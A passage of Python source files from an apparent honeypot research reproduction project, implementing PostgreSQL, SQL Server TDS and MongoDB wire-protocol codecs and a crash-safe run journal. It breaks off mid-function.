    def user(self) -> str | None:
        return self.parameters.get("user")

    @property
    def database(self) -> str | None:
        return self.parameters.get("database", self.parameters.get("user"))


@dataclass(frozen=True)
class SSLRequest:
    """Client request to upgrade to TLS (answered 'N' by honeypots)."""


@dataclass(frozen=True)
class CancelRequest:
    """Out-of-band query cancellation request."""

    process_id: int
    secret_key: int


@dataclass(frozen=True)
class BackendMessage:
    """A typed backend (server -> client) message."""

    type_code: bytes
    payload: bytes


@dataclass(frozen=True)
class FrontendMessage:
    """A typed frontend (client -> server) message (post-startup)."""

    type_code: bytes
    payload: bytes


def build_startup_message(user: str, database: str | None = None,
                          application_name: str | None = None) -> bytes:
    """Encode a StartupMessage for ``user``."""
    parameters = {"user": user}
    if database is not None:
        parameters["database"] = database
    if application_name is not None:
        parameters["application_name"] = application_name
    body = bytearray(struct.pack(">i", PROTOCOL_VERSION_3))
    for key, value in parameters.items():
        body += key.encode() + b"\x00" + value.encode() + b"\x00"
    body += b"\x00"
    return struct.pack(">i", len(body) + 4) + bytes(body)


def build_ssl_request() -> bytes:
    """Encode an SSLRequest packet."""
    return struct.pack(">ii", 8, SSL_REQUEST_CODE)


def build_password_message(password: str) -> bytes:
    """Encode a frontend PasswordMessage ('p')."""
    return _frontend(b"p", password.encode() + b"\x00")


def build_query(sql: str) -> bytes:
    """Encode a frontend simple Query ('Q')."""
    return _frontend(b"Q", sql.encode() + b"\x00")


def build_terminate() -> bytes:
    """Encode a frontend Terminate ('X')."""
    return _frontend(b"X", b"")


def _frontend(type_code: bytes, payload: bytes) -> bytes:
    return type_code + struct.pack(">i", len(payload) + 4) + payload


def build_authentication_request(subcode: int, extra: bytes = b"") -> bytes:
    """Encode a backend AuthenticationRequest ('R')."""
    return _backend(b"R", struct.pack(">i", subcode) + extra)


def build_authentication_ok() -> bytes:
    """Encode AuthenticationOk."""
    return build_authentication_request(AUTH_OK)


def build_parameter_status(name: str, value: str) -> bytes:
    """Encode a backend ParameterStatus ('S')."""
    return _backend(b"S", name.encode() + b"\x00" + value.encode() + b"\x00")


def build_backend_key_data(process_id: int, secret_key: int) -> bytes:
    """Encode BackendKeyData ('K')."""
    return _backend(b"K", struct.pack(">ii", process_id, secret_key))


def build_ready_for_query(status: bytes = b"I") -> bytes:
    """Encode ReadyForQuery ('Z'); ``status`` is I, T, or E."""
    if status not in (b"I", b"T", b"E"):
        raise ValueError("transaction status must be I, T, or E")
    return _backend(b"Z", status)


def build_error_response(severity: str, code: str, message: str) -> bytes:
    """Encode an ErrorResponse ('E') with severity/code/message fields."""
    payload = (b"S" + severity.encode() + b"\x00"
               + b"C" + code.encode() + b"\x00"
               + b"M" + message.encode() + b"\x00"
               + b"\x00")
    return _backend(b"E", payload)


def build_row_description(columns: list[str]) -> bytes:
    """Encode a RowDescription ('T') with text-format columns."""
    payload = bytearray(struct.pack(">h", len(columns)))
    for name in columns:
        payload += name.encode() + b"\x00"
        # table OID, attr number, type OID (text=25), type size, type
        # modifier, format code (0 = text).
        payload += struct.pack(">ihihih", 0, 0, 25, -1, -1, 0)
    return _backend(b"T", bytes(payload))


def build_data_row(values: list[str | None]) -> bytes:
    """Encode a DataRow ('D') of text values (``None`` -> SQL NULL)."""
    payload = bytearray(struct.pack(">h", len(values)))
    for value in values:
        if value is None:
            payload += struct.pack(">i", -1)
        else:
            encoded = value.encode()
            payload += struct.pack(">i", len(encoded)) + encoded
    return _backend(b"D", bytes(payload))


def build_command_complete(tag: str) -> bytes:
    """Encode CommandComplete ('C'), e.g. tag ``"SELECT 1"``."""
    return _backend(b"C", tag.encode() + b"\x00")


def build_empty_query_response() -> bytes:
    """Encode EmptyQueryResponse ('I')."""
    return _backend(b"I", b"")


def _backend(type_code: bytes, payload: bytes) -> bytes:
    return type_code + struct.pack(">i", len(payload) + 4) + payload


@dataclass
class PgStream:
    """Incremental parser for one direction of a pgwire conversation.

    The first client message has no type byte (startup/SSL/cancel); set
    ``expect_startup=True`` for the server side of a fresh connection.
    After the startup message is consumed the parser switches to typed
    messages automatically.
    """

    expect_startup: bool = False
    _buffer: bytearray = field(default_factory=bytearray)

    def feed(self, data: bytes) -> list[object]:
        """Add bytes; return completed messages.

        Startup-phase messages come back as :class:`StartupMessage`,
        :class:`SSLRequest` or :class:`CancelRequest`; typed messages as
        :class:`FrontendMessage` (the caller decides direction semantics).
        """
        self._buffer += data
        messages: list[object] = []
        while True:
            message = self._try_parse()
            if message is None:
                return messages
            messages.append(message)

    def _try_parse(self) -> object | None:
        if self.expect_startup:
            return self._try_parse_startup()
        if len(self._buffer) < 5:
            return None
        type_code = bytes(self._buffer[:1])
        (length,) = struct.unpack(">i", self._buffer[1:5])
        if not 4 <= length <= _MAX_MESSAGE:
            raise ProtocolError(f"invalid pgwire message length {length}")
        total = 1 + length
        if len(self._buffer) < total:
            return None
        payload = bytes(self._buffer[5:total])
        del self._buffer[:total]
        return FrontendMessage(type_code, payload)

    def _try_parse_startup(self) -> object | None:
        if len(self._buffer) < 8:
            return None
        (length, version) = struct.unpack(">ii", self._buffer[:8])
        # Real startup packets are tiny; an implausible length means the
        # client is not speaking pgwire at all (RDP cookies, TLS hellos).
        if not 8 <= length <= _MAX_STARTUP:
            raise ProtocolError(f"invalid startup packet length {length}")
        if version not in (SSL_REQUEST_CODE, GSSENC_REQUEST_CODE,
                           CANCEL_REQUEST_CODE, PROTOCOL_VERSION_3):
            raise ProtocolError(
                f"unsupported pgwire protocol version {version:#x}")
        if len(self._buffer) < length:
            return None
        body = bytes(self._buffer[8:length])
        del self._buffer[:length]
        if version in (SSL_REQUEST_CODE, GSSENC_REQUEST_CODE):
            return SSLRequest()
        if version == CANCEL_REQUEST_CODE:
            if len(body) != 8:
                raise ProtocolError("malformed CancelRequest")
            process_id, secret_key = struct.unpack(">ii", body)
            self.expect_startup = False
            return CancelRequest(process_id, secret_key)
        self.expect_startup = False
        return StartupMessage(version, _parse_parameters(body))


def _parse_parameters(body: bytes) -> dict[str, str]:
    parameters: dict[str, str] = {}
    parts = body.split(b"\x00")
    # Trailing terminator produces empty tail entries.
    index = 0
    while index + 1 < len(parts) and parts[index]:
        parameters[parts[index].decode("utf-8", "replace")] = (
            parts[index + 1].decode("utf-8", "replace"))
        index += 2
    return parameters


def parse_backend_messages(data: bytes) -> list[BackendMessage]:
    """Parse a complete server reply into typed backend messages."""
    messages = []
    offset = 0
    while offset < len(data):
        if len(data) - offset < 5:
            raise ProtocolError("truncated backend message")
        type_code = data[offset:offset + 1]
        (length,) = struct.unpack(">i", data[offset + 1:offset + 5])
        if not 4 <= length <= _MAX_MESSAGE:
            raise ProtocolError(f"invalid backend message length {length}")
        end = offset + 1 + length
        if end > len(data):
            raise ProtocolError("truncated backend message body")
        messages.append(BackendMessage(type_code, data[offset + 5:end]))
        offset = end
    return messages


def parse_error_fields(payload: bytes) -> dict[str, str]:
    """Decode the field map of an ErrorResponse payload."""
    fields: dict[str, str] = {}
    offset = 0
    while offset < len(payload) and payload[offset:offset + 1] != b"\x00":
        code = payload[offset:offset + 1].decode()
        end = payload.find(b"\x00", offset + 1)
        if end < 0:
            raise ProtocolError("unterminated error field")
        fields[code] = payload[offset + 1:end].decode("utf-8", "replace")
        offset = end + 1
    return fields


def parse_data_row(payload: bytes) -> list[bytes | None]:
    """Decode a DataRow payload into column values."""
    if len(payload) < 2:
        raise ProtocolError("truncated DataRow")
    (count,) = struct.unpack(">h", payload[:2])
    values: list[bytes | None] = []
    offset = 2
    for _ in range(count):
        if len(payload) - offset < 4:
            raise ProtocolError("truncated DataRow column")
        (length,) = struct.unpack(">i", payload[offset:offset + 4])
        offset += 4
        if length == -1:
            values.append(None)
            continue
        if length < 0 or offset + length > len(payload):
            raise ProtocolError("invalid DataRow column length")
        values.append(payload[offset:offset + length])
        offset += length
    return values
