"""Wire-protocol codecs.

From-scratch encoders/decoders for every protocol spoken by the paper's
honeypots and their attackers:

* :mod:`repro.protocols.resp` -- Redis RESP2 (serialization + inline
  commands),
* :mod:`repro.protocols.postgres` -- PostgreSQL frontend/backend protocol
  v3 (pgwire),
* :mod:`repro.protocols.mysql` -- MySQL client/server protocol (handshake
  v10, auth switch, OK/ERR),
* :mod:`repro.protocols.tds` -- Microsoft SQL Server TDS (PRELOGIN,
  LOGIN7, token stream),
* :mod:`repro.protocols.http11` -- minimal HTTP/1.1 framing for the
  Elasticsearch honeypot,
* :mod:`repro.protocols.bson` -- BSON document codec,
* :mod:`repro.protocols.mongo_wire` -- MongoDB wire protocol (OP_MSG,
  OP_QUERY, OP_REPLY).

All codecs are symmetric (both the honeypot servers and the attacker
clients are built on them) and transport-agnostic: they consume and
produce ``bytes``.
"""

from repro.protocols.errors import ProtocolError

__all__ = ["ProtocolError"]
