"""Tabular Data Stream (TDS) -- the Microsoft SQL Server protocol.

Implements the login phase used by MSSQL brute-forcers: packet framing,
PRELOGIN negotiation, the LOGIN7 packet (with the standard password
obfuscation, so honeypots recover cleartext credentials), and the server
token stream (LOGINACK / ERROR / DONE).

Wire format reference: MS-TDS specification,
https://learn.microsoft.com/en-us/openspecs/windows_protocols/ms-tds/
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

from repro.protocols.errors import ProtocolError

# Packet types.
PKT_SQL_BATCH = 0x01
PKT_RESPONSE = 0x04
PKT_LOGIN7 = 0x10
PKT_PRELOGIN = 0x12

# Status flags.
STATUS_EOM = 0x01

# PRELOGIN option tokens.
PRELOGIN_VERSION = 0x00
PRELOGIN_ENCRYPTION = 0x01
PRELOGIN_INSTOPT = 0x02
PRELOGIN_THREADID = 0x03
PRELOGIN_MARS = 0x04
PRELOGIN_TERMINATOR = 0xFF

# Encryption negotiation values.
ENCRYPT_OFF = 0x00
ENCRYPT_NOT_SUP = 0x02

# Response stream tokens.
TOKEN_LOGINACK = 0xAD
TOKEN_ERROR = 0xAA
TOKEN_DONE = 0xFD

#: TDS 7.4.
TDS_VERSION_74 = 0x74000004

#: Login failed for user ... error number.
MSSQL_LOGIN_FAILED = 18456

_HEADER = struct.Struct(">BBHHBB")
_MAX_PACKET = 32768


def frame(packet_type: int, payload: bytes, *, status: int = STATUS_EOM,
          spid: int = 0, packet_id: int = 1) -> bytes:
    """Wrap ``payload`` in a TDS packet header."""
    length = len(payload) + _HEADER.size
    if length > _MAX_PACKET:
        raise ValueError("TDS payload exceeds maximum packet size")
    return _HEADER.pack(packet_type, status, length, spid, packet_id,
                        0) + payload


@dataclass
class PacketReader:
    """Incremental splitter for the TDS packet stream."""

    _buffer: bytearray = field(default_factory=bytearray)

    def feed(self, data: bytes) -> list[tuple[int, bytes]]:
        """Add bytes; return completed ``(packet_type, payload)`` packets.

        Multi-packet messages (status without EOM) are concatenated until
        the EOM packet arrives.
        """
        self._buffer += data
        packets: list[tuple[int, bytes]] = []
        partial: dict[int, bytearray] = {}
        while len(self._buffer) >= _HEADER.size:
            packet_type, status, length, _spid, _pid, _win = _HEADER.unpack(
                self._buffer[:_HEADER.size])
            if not _HEADER.size <= length <= _MAX_PACKET:
                raise ProtocolError(f"invalid TDS packet length {length}")
            if len(self._buffer) < length:
                break
            payload = bytes(self._buffer[_HEADER.size:length])
            del self._buffer[:length]
            chunk = partial.setdefault(packet_type, bytearray())
            chunk += payload
            if status & STATUS_EOM:
                packets.append((packet_type, bytes(chunk)))
                del partial[packet_type]
        # Stash unfinished multi-packet messages back for the next feed.
        for packet_type, chunk in partial.items():
            # Rebuild a non-EOM header so the next feed resumes cleanly.
            self._buffer[:0] = _HEADER.pack(
                packet_type, 0, len(chunk) + _HEADER.size, 0, 1, 0) + chunk
        return packets


def build_prelogin(options: dict[int, bytes] | None = None) -> bytes:
    """Encode a PRELOGIN payload (unframed).

    ``options`` maps option tokens to their raw data; defaults to a
    typical client offer (version 0, encryption not supported).
    """
    if options is None:
        options = {
            PRELOGIN_VERSION: struct.pack(">IH", 0x0F000000, 0),
            PRELOGIN_ENCRYPTION: bytes([ENCRYPT_NOT_SUP]),
        }
    items = sorted(options.items())
    header_size = len(items) * 5 + 1
    header = bytearray()
    body = bytearray()
    offset = header_size
    for token, data in items:
        header += struct.pack(">BHH", token, offset, len(data))
        body += data
        offset += len(data)
    header.append(PRELOGIN_TERMINATOR)
    return bytes(header + body)


def parse_prelogin(payload: bytes) -> dict[int, bytes]:
    """Decode a PRELOGIN payload into its option map."""
    options: dict[int, bytes] = {}
    offset = 0
    while True:
        if offset >= len(payload):
            raise ProtocolError("unterminated PRELOGIN option list")
        token = payload[offset]
        if token == PRELOGIN_TERMINATOR:
            break
        try:
            data_offset, data_len = struct.unpack_from(">HH", payload,
                                                       offset + 1)
        except struct.error as exc:
            raise ProtocolError("truncated PRELOGIN option") from exc
        if data_offset + data_len > len(payload):
            raise ProtocolError("PRELOGIN option data out of bounds")
        options[token] = payload[data_offset:data_offset + data_len]
        offset += 5
    return options


@dataclass(frozen=True)
class Login7:
    """Decoded LOGIN7 packet (the fields honeypots care about)."""

    tds_version: int
    hostname: str
    username: str
    password: str
    app_name: str
    server_name: str
    library_name: str
    database: str


_LOGIN7_FIXED = struct.Struct("<IIIIIIBBBBiI")


def obfuscate_password(password: str) -> bytes:
    """Apply the LOGIN7 password obfuscation to UCS-2 encoded text.

    Each byte's nibbles are swapped and the result XORed with 0xA5.
    """
    out = bytearray()
    for byte in password.encode("utf-16-le"):
        out.append((((byte << 4) | (byte >> 4)) & 0xFF) ^ 0xA5)
    return bytes(out)


def deobfuscate_password(data: bytes) -> str:
    """Invert :func:`obfuscate_password`."""
    out = bytearray()
    for byte in data:
        plain = byte ^ 0xA5
        out.append(((plain << 4) | (plain >> 4)) & 0xFF)
    return out.decode("utf-16-le", "replace")


def build_login7(username: str, password: str, *, hostname: str = "client",
                 app_name: str = "osql", server_name: str = "",
                 library_name: str = "ODBC", database: str = "",
                 tds_version: int = TDS_VERSION_74) -> bytes:
    """Encode a LOGIN7 payload (unframed)."""
    strings = [hostname, username, None, app_name, server_name, "",
               library_name, "", database]
    fixed_size = 4 + _LOGIN7_FIXED.size + 9 * 4 + 6 + 4 + 4 + 4 + 4
    data = bytearray()
    offsets: list[tuple[int, int]] = []
    for value in strings:
        if value is None:  # password slot
            encoded = obfuscate_password(password)
            offsets.append((fixed_size + len(data), len(password)))
        else:
            encoded = value.encode("utf-16-le")
            offsets.append((fixed_size + len(data), len(value)))
        data += encoded
    packet = bytearray()
    packet += struct.pack("<I", fixed_size + len(data))
    packet += _LOGIN7_FIXED.pack(tds_version, 4096, 0x07000000, 100, 0,
                                 0xE0, 0x03, 0, 0, 0, 0, 0x0409)
    for offset, length in offsets:
        packet += struct.pack("<HH", offset, length)
    packet += b"\x00" * 6          # ClientID (MAC address)
    packet += struct.pack("<HH", 0, 0)   # SSPI
    packet += struct.pack("<HH", 0, 0)   # AtchDBFile
    packet += struct.pack("<HH", 0, 0)   # ChangePassword
    packet += struct.pack("<I", 0)       # SSPILong
    packet += data
    return bytes(packet)


def parse_login7(payload: bytes) -> Login7:
    """Decode a LOGIN7 payload, de-obfuscating the password."""
    if len(payload) < 4 + _LOGIN7_FIXED.size + 9 * 4:
        raise ProtocolError("truncated LOGIN7 packet")
    (total_length,) = struct.unpack_from("<I", payload, 0)
    if total_length > len(payload):
        raise ProtocolError("LOGIN7 length exceeds payload")
    fixed = _LOGIN7_FIXED.unpack_from(payload, 4)
    tds_version = fixed[0]
    offset = 4 + _LOGIN7_FIXED.size
    slots = []
    for _ in range(9):
        pos, length = struct.unpack_from("<HH", payload, offset)
        slots.append((pos, length))
        offset += 4

    def text(index: int) -> str:
        pos, length = slots[index]
        raw = payload[pos:pos + length * 2]
        return raw.decode("utf-16-le", "replace")

    password_pos, password_len = slots[2]
    password = deobfuscate_password(
        payload[password_pos:password_pos + password_len * 2])
    return Login7(tds_version, text(0), text(1), password, text(3), text(4),
                  text(6), text(8))


def build_error_token(number: int, message: str, *, state: int = 1,
                      severity: int = 14,
                      server_name: str = "MSSQLSERVER") -> bytes:
    """Encode an ERROR token (0xAA) for the response stream."""
    msg = message.encode("utf-16-le")
    server = server_name.encode("utf-16-le")
    body = bytearray()
    body += struct.pack("<IBB", number, state, severity)
    body += struct.pack("<H", len(message)) + msg
    body += bytes([len(server_name)]) + server
    body += bytes([0])                 # proc name length
    body += struct.pack("<I", 0)       # line number
    return bytes([TOKEN_ERROR]) + struct.pack("<H", len(body)) + bytes(body)


def build_loginack_token(program_name: str = "Microsoft SQL Server",
                         tds_version: int = TDS_VERSION_74) -> bytes:
    """Encode a LOGINACK token (0xAD)."""
    prog = program_name.encode("utf-16-le")
    body = bytearray()
    body += bytes([1])                     # interface: SQL_TSQL
    body += struct.pack(">I", tds_version)
    body += bytes([len(program_name)]) + prog
    body += bytes([16, 0, 0, 0])           # server version
    return bytes([TOKEN_LOGINACK]) + struct.pack("<H", len(body)) + bytes(
        body)


def build_done_token(*, status: int = 0, row_count: int = 0) -> bytes:
    """Encode a DONE token (0xFD)."""
    return bytes([TOKEN_DONE]) + struct.pack("<HHQ", status, 0, row_count)


@dataclass(frozen=True)
class ErrorToken:
    """Decoded ERROR token."""

    number: int
    state: int
    severity: int
    message: str


def parse_tokens(payload: bytes) -> list[object]:
    """Decode a response token stream into typed tokens.

    Returns :class:`ErrorToken` instances, the string ``"LOGINACK"`` and
    ``"DONE"`` markers; unknown tokens raise :class:`ProtocolError`.
    """
    tokens: list[object] = []
    offset = 0
    while offset < len(payload):
        token = payload[offset]
        if token == TOKEN_ERROR:
            (length,) = struct.unpack_from("<H", payload, offset + 1)
            body = payload[offset + 3:offset + 3 + length]
            number, state, severity = struct.unpack_from("<IBB", body, 0)
            (msg_len,) = struct.unpack_from("<H", body, 6)
            message = body[8:8 + msg_len * 2].decode("utf-16-le", "replace")
            tokens.append(ErrorToken(number, state, severity, message))
            offset += 3 + length
        elif token == TOKEN_LOGINACK:
            (length,) = struct.unpack_from("<H", payload, offset + 1)
            tokens.append("LOGINACK")
            offset += 3 + length
        elif token == TOKEN_DONE:
            tokens.append("DONE")
            offset += 1 + 12
        else:
            raise ProtocolError(f"unsupported TDS token {token:#x}")
    return tokens
