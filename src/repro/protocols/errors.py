"""Shared protocol-level exceptions."""

from __future__ import annotations


class ProtocolError(Exception):
    """Raised when a byte stream violates the protocol being parsed.

    Honeypot sessions catch this to log malformed input (which the paper
    observes frequently, e.g. RDP cookies sent to Redis) instead of
    crashing.
    """


class IncompleteFrame(ProtocolError):
    """Raised when a frame is truncated; the caller should await more bytes.

    Streaming parsers use this internally to distinguish "need more data"
    from "garbage data".
    """
