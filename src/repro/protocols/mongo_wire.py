"""MongoDB wire protocol (OP_MSG, OP_QUERY, OP_REPLY).

Modern drivers speak OP_MSG; legacy handshakes (``isMaster`` probes from
scanners) arrive as OP_QUERY and are answered with OP_REPLY.  Both are
implemented here on top of the BSON codec.

Wire format reference:
https://www.mongodb.com/docs/manual/reference/mongodb-wire-protocol/
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

from repro.protocols import bson
from repro.protocols.errors import ProtocolError

OP_REPLY = 1
OP_QUERY = 2004
OP_MSG = 2013

_HEADER = struct.Struct("<iiii")
_MAX_MESSAGE = 48 * 1024 * 1024


@dataclass(frozen=True)
class MsgHeader:
    """Standard message header."""

    message_length: int
    request_id: int
    response_to: int
    op_code: int


@dataclass(frozen=True)
class QueryMessage:
    """A decoded OP_QUERY message."""

    header: MsgHeader
    collection: str
    number_to_skip: int
    number_to_return: int
    query: dict


@dataclass(frozen=True)
class MsgMessage:
    """A decoded OP_MSG message (kind-0 body section only)."""

    header: MsgHeader
    flag_bits: int
    body: dict


@dataclass(frozen=True)
class ReplyMessage:
    """A decoded OP_REPLY message."""

    header: MsgHeader
    response_flags: int
    cursor_id: int
    starting_from: int
    documents: list[dict]


def build_query(request_id: int, collection: str, query: dict, *,
                number_to_return: int = 1) -> bytes:
    """Encode an OP_QUERY message (legacy handshake path)."""
    body = (struct.pack("<i", 0) + collection.encode() + b"\x00"
            + struct.pack("<ii", 0, number_to_return)
            + bson.encode_document(query))
    return _with_header(request_id, 0, OP_QUERY, body)


def build_msg(request_id: int, body: dict, *, response_to: int = 0,
              flag_bits: int = 0) -> bytes:
    """Encode an OP_MSG message with a single kind-0 body section."""
    payload = (struct.pack("<I", flag_bits) + b"\x00"
               + bson.encode_document(body))
    return _with_header(request_id, response_to, OP_MSG, payload)


def build_reply(request_id: int, response_to: int,
                documents: list[dict]) -> bytes:
    """Encode an OP_REPLY message."""
    body = struct.pack("<iqii", 8, 0, 0, len(documents))
    for document in documents:
        body += bson.encode_document(document)
    return _with_header(request_id, response_to, OP_REPLY, body)


def _with_header(request_id: int, response_to: int, op_code: int,
                 body: bytes) -> bytes:
    length = _HEADER.size + len(body)
    if length > _MAX_MESSAGE:
        raise ValueError("MongoDB message exceeds maximum size")
    return _HEADER.pack(length, request_id, response_to, op_code) + body


@dataclass
class MessageReader:
    """Incremental splitter/decoder for the MongoDB message stream."""

    _buffer: bytearray = field(default_factory=bytearray)

    def feed(self, data: bytes) -> list[QueryMessage | MsgMessage
                                        | ReplyMessage]:
        """Add bytes; return completed, decoded messages."""
        self._buffer += data
        messages = []
        while len(self._buffer) >= _HEADER.size:
            length, request_id, response_to, op_code = _HEADER.unpack(
                self._buffer[:_HEADER.size])
            if not _HEADER.size <= length <= _MAX_MESSAGE:
                raise ProtocolError(f"invalid message length {length}")
            if len(self._buffer) < length:
                break
            raw = bytes(self._buffer[_HEADER.size:length])
            del self._buffer[:length]
            header = MsgHeader(length, request_id, response_to, op_code)
            messages.append(_decode(header, raw))
        return messages


def _decode(header: MsgHeader,
            body: bytes) -> QueryMessage | MsgMessage | ReplyMessage:
    if header.op_code == OP_QUERY:
        return _decode_query(header, body)
    if header.op_code == OP_MSG:
        return _decode_msg(header, body)
    if header.op_code == OP_REPLY:
        return _decode_reply(header, body)
    raise ProtocolError(f"unsupported opcode {header.op_code}")


def _decode_query(header: MsgHeader, body: bytes) -> QueryMessage:
    if len(body) < 4:
        raise ProtocolError("truncated OP_QUERY")
    name_end = body.find(b"\x00", 4)
    if name_end < 0:
        raise ProtocolError("unterminated collection name")
    collection = body[4:name_end].decode("utf-8", "replace")
    offset = name_end + 1
    if len(body) - offset < 8:
        raise ProtocolError("truncated OP_QUERY numbers")
    number_to_skip, number_to_return = struct.unpack_from("<ii", body,
                                                          offset)
    query, _end = bson.decode_document(body, offset + 8)
    return QueryMessage(header, collection, number_to_skip,
                        number_to_return, query)


def _decode_msg(header: MsgHeader, body: bytes) -> MsgMessage:
    if len(body) < 5:
        raise ProtocolError("truncated OP_MSG")
    (flag_bits,) = struct.unpack_from("<I", body, 0)
    offset = 4
    main_body: dict | None = None
    while offset < len(body):
        kind = body[offset]
        offset += 1
        if kind == 0:
            document, offset = bson.decode_document(body, offset)
            if main_body is None:
                main_body = document
        elif kind == 1:
            # Document-sequence section: size, identifier, documents.
            (size,) = struct.unpack_from("<i", body, offset)
            offset += size
        else:
            raise ProtocolError(f"unsupported OP_MSG section kind {kind}")
    if main_body is None:
        raise ProtocolError("OP_MSG without a body section")
    return MsgMessage(header, flag_bits, main_body)


def _decode_reply(header: MsgHeader, body: bytes) -> ReplyMessage:
    if len(body) < 20:
        raise ProtocolError("truncated OP_REPLY")
    response_flags, cursor_id, starting_from, number_returned = (
        struct.unpack_from("<iqii", body, 0))
    documents = []
    offset = 20
    for _ in range(number_returned):
        document, offset = bson.decode_document(body, offset)
        documents.append(document)
    return ReplyMessage(header, response_flags, cursor_id, starting_from,
                        documents)
