"""The write-ahead run journal: durable checkpoints for one run.

A journal is a single append-only JSONL file under
``<output>/run_journal/`` describing the durable progress of one
experiment run.  Records, in order:

* one ``header`` (run identity: seed, scale, fault-plan payload,
  schedule digest) written before the first visit replays,
* zero or more ``checkpoint`` records, each appended *only after* the
  driver's sink commit barrier confirmed every event up to the
  checkpoint's watermark is fsync-durable in the SQLite databases, the
  raw logs, and the dead letter -- the journal invariant is
  ``checkpoint => durable``, never the reverse,
* zero or more ``resume`` markers (one per ``repro run --resume``),
* at most one final ``complete`` record on clean completion.

Every record carries a CRC32 over its canonical JSON payload, and every
append is flushed + fsynced before the checkpoint is considered taken.
A ``kill -9`` can therefore leave at most one *torn tail line* (the
record being appended when the process died); :func:`read_journal`
drops a torn tail silently -- it is the expected crash artifact, and the
previous record was already durable.  Anything else that fails to parse
(garbage bytes, a damaged record in the middle, a bad CRC on an inner
line) is *corruption*: the strict reader refuses with
:class:`JournalCorrupt`, and the lenient reader (``repro run
--resume=force``) keeps the longest valid prefix instead.
"""

from __future__ import annotations

import json
import os
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO

__all__ = [
    "JOURNAL_DIRNAME", "JOURNAL_FILENAME", "JOURNAL_SCHEMA",
    "JournalCorrupt", "JournalError", "JournalView", "RunJournal",
    "journal_path", "read_journal",
]

#: Directory created next to the run's databases.
JOURNAL_DIRNAME = "run_journal"

#: The journal file inside :data:`JOURNAL_DIRNAME`.
JOURNAL_FILENAME = "journal.jsonl"

#: Journal schema identifier; bump the suffix on breaking changes.
JOURNAL_SCHEMA = "repro.run_journal/1"


class JournalError(RuntimeError):
    """A journal could not be used (missing, wrong run, unusable)."""


class JournalCorrupt(JournalError):
    """A journal failed structural validation (bad CRC / garbage)."""


def journal_path(output_dir: str | Path) -> Path:
    """The journal file location for a run at ``output_dir``."""
    return Path(output_dir) / JOURNAL_DIRNAME / JOURNAL_FILENAME


def _canonical(record: dict) -> bytes:
    """The byte string the CRC covers (sorted keys, tight separators)."""
    return json.dumps(record, sort_keys=True,
                      separators=(",", ":")).encode("utf-8")


def _sealed(record: dict) -> str:
    """Serialize ``record`` with its integrity CRC as one JSON line."""
    body = dict(record)
    body["crc"] = zlib.crc32(_canonical(record))
    return json.dumps(body, separators=(",", ":")) + "\n"


def _unseal(line: str) -> dict:
    """Parse one journal line, verifying its CRC.

    Raises ``ValueError`` on any structural problem.
    """
    body = json.loads(line)
    if not isinstance(body, dict) or "crc" not in body:
        raise ValueError("journal record without crc")
    crc = body.pop("crc")
    if zlib.crc32(_canonical(body)) != crc:
        raise ValueError("journal record crc mismatch")
    return body


class RunJournal:
    """Appender for one run's journal (create fresh, or reopen to
    continue after a resume)."""

    def __init__(self, path: Path, *, _handle: IO[str],
                 checkpoints_taken: int = 0):
        self.path = path
        self._handle = _handle
        #: ``seq`` of the next checkpoint record.
        self.next_seq = checkpoints_taken

    # -- creation ---------------------------------------------------------

    @classmethod
    def create(cls, output_dir: str | Path, header: dict) -> "RunJournal":
        """Start a fresh journal, replacing any previous one."""
        path = journal_path(output_dir)
        path.parent.mkdir(parents=True, exist_ok=True)
        handle = open(path, "w", encoding="utf-8")
        journal = cls(path, _handle=handle)
        journal._append({"kind": "header", "schema": JOURNAL_SCHEMA,
                         **header})
        return journal

    @classmethod
    def reopen(cls, output_dir: str | Path, *,
               checkpoints_taken: int) -> "RunJournal":
        """Reopen an existing journal for appending (resume path)."""
        path = journal_path(output_dir)
        if not path.exists():
            raise JournalError(f"no run journal at {path}")
        handle = open(path, "a", encoding="utf-8")
        return cls(path, _handle=handle,
                   checkpoints_taken=checkpoints_taken)

    @classmethod
    def rewrite(cls, output_dir: str | Path,
                records: list[dict]) -> "RunJournal":
        """Atomically replace the journal with ``records`` and reopen
        for appending.

        The resume path uses this to supersede a crashed journal: the
        kept prefix (header + the checkpoints at or below the adopted
        restore point) is rewritten fresh, which discards torn tails
        and any stale later checkpoints whose rows the resume just
        truncated away.  The replace is write-temp + fsync +
        ``os.replace``, so a crash mid-rewrite leaves the old journal
        intact.
        """
        path = journal_path(output_dir)
        path.parent.mkdir(parents=True, exist_ok=True)
        temp = path.with_name(path.name + ".tmp")
        with open(temp, "w", encoding="utf-8") as handle:
            for record in records:
                body = {key: value for key, value in record.items()
                        if key != "crc"}
                handle.write(_sealed(body))
            handle.flush()
            os.fsync(handle.fileno())
        os.replace(temp, path)
        taken = sum(1 for record in records
                    if record.get("kind") == "checkpoint")
        handle = open(path, "a", encoding="utf-8")
        return cls(path, _handle=handle, checkpoints_taken=taken)

    # -- appends ----------------------------------------------------------

    def _append(self, record: dict) -> None:
        """Durably append one record: write, flush, fsync."""
        self._handle.write(_sealed(record))
        self._handle.flush()
        os.fsync(self._handle.fileno())

    def checkpoint(self, record: dict) -> int:
        """Append one checkpoint record; returns its sequence number.

        The caller must have completed the sink commit barrier first --
        appending is what makes the checkpoint claim "everything up to
        this watermark is durable".
        """
        seq = self.next_seq
        self.next_seq += 1
        self._append({"kind": "checkpoint", "seq": seq, **record})
        return seq

    def resume_marker(self, record: dict) -> None:
        """Record that a resume adopted this journal."""
        self._append({"kind": "resume", **record})

    def complete(self, record: dict) -> None:
        """Append the final record: the run finished cleanly."""
        self._append({"kind": "complete", **record})

    def close(self) -> None:
        if self._handle is not None:
            try:
                self._handle.close()
            except OSError:
                pass
            self._handle = None

    def __enter__(self) -> "RunJournal":
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()


@dataclass
class JournalView:
    """Parsed, validated view of a journal file."""

    path: Path
    header: dict | None
    checkpoints: list[dict]
    resumes: list[dict] = field(default_factory=list)
    complete: dict | None = None
    #: True when a torn tail line was dropped (the normal kill -9
    #: artifact -- not corruption).
    torn_tail: bool = False
    #: Lines dropped because of real corruption (only in force mode).
    dropped: int = 0


def read_journal(output_dir: str | Path, *,
                 force: bool = False) -> JournalView:
    """Load and validate the journal of a run at ``output_dir``.

    Strict mode (the default) raises :class:`JournalCorrupt` on any
    damaged record other than a torn final line.  With ``force`` the
    longest valid prefix is kept instead (``dropped`` counts what was
    discarded); a journal whose very first line is unreadable yields a
    view with ``header=None``.
    """
    path = journal_path(output_dir)
    if not path.exists():
        raise JournalError(
